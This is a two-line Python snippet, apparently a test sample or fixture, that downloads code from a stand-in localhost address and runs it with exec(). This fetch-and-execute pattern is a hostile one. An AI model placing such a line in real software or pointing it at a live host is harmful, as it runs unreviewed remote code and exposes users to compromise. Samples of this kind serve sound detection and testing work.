import urllib.request

exec(urllib.request.urlopen('http://127.0.0.1:9/x').read())
